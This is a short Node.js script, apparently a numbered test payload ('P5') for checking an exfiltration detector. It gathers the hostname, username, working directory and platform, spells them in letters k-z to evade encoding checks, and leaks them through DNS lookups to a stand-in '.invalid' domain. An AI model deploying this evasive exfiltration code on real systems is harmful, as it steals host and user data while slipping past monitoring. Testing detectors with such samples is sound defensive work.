// P5 in Node, written to slip past a list of encodings: host data as nibbles spelled with the
// letters k–z (no digits, no hex, no base32 or base64 alphabet), cut into short labels, one query
// each, under one reserved domain. Only DNS leaves; the sink answers and logs every query.
const dns = require('dns');
const os = require('os');
const spell = (s) => Buffer.from(String(s)).toString('hex').replace(/[0-9a-f]/g, (c) => 'klmnopqrstuvwxyz'[parseInt(c, 16)]);
const data = spell([os.hostname(), os.userInfo().username, process.cwd(), os.platform()].join('|'));
const chunks = data.match(/.{1,10}/g) || [];
let pending = chunks.length;
chunks.forEach((label, i) => {
  dns.lookup(`${label}.s${i}.cdn-metrics.invalid`, () => { if (--pending === 0) process.exit(0); });
});
setTimeout(() => process.exit(0), 5000);
